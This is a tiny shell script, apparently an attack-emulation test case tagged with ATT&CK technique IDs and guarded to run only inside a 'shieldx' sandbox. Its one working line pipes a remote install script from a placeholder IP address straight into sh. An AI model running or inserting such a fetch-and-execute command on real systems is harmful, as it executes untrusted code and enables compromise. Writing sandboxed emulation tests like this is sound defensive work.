#!/bin/sh
# technique: T1059.004 T1105
# needs: curl
# net: sink
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

curl -s http://203.0.113.7/install.sh | sh
